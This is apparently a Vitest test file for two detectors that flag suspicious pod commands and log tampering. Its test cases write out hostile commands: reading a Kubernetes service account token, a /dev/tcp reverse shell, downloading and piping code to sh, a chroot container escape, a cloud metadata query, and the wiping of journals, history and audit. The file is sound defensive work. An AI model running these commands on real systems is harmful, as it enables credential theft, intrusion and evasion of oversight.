import { expect, test } from 'vitest';
import { podCommandTells, tamperingTells } from './commands';

test.each([
  ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'reads tokens, keys or passwords'],
  ['bash -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1', 'opens a shell to the outside'],
  ['sh -c curl -s http://198.51.100.9/x | sh', 'runs what it downloads'],
  ['chroot /host bash', 'leaves the container'],
  ['wget -qO- http://169.254.169.254/latest/meta-data', 'asks for the identity of the node'],
  ['sh', null],
  ['curl -s http://localhost:8080/healthz', null],
  ['ls /var/log', null],
])('%s', (command, tells) => {
  expect(podCommandTells(command)).toBe(tells);
});

test.each([
  ['/usr/bin/journalctl --vacuum-time=1s', 'empties the journal'],
  ['/usr/bin/truncate -s 0 /var/log/wtmp', 'empties or removes logs'],
  ['rm -f /root/.bash_history', 'removes the history of a shell'],
  ['auditctl -e 0', 'changes what is audited'],
  ['/usr/bin/systemctl stop auditd', 'stops what watches'],
  ['/usr/bin/systemctl restart nginx', null],
  ['journalctl -u kubelet', null],
  ['tail -f /var/log/syslog', null],
])('%s', (command, tells) => {
  expect(tamperingTells(command)).toBe(tells);
});
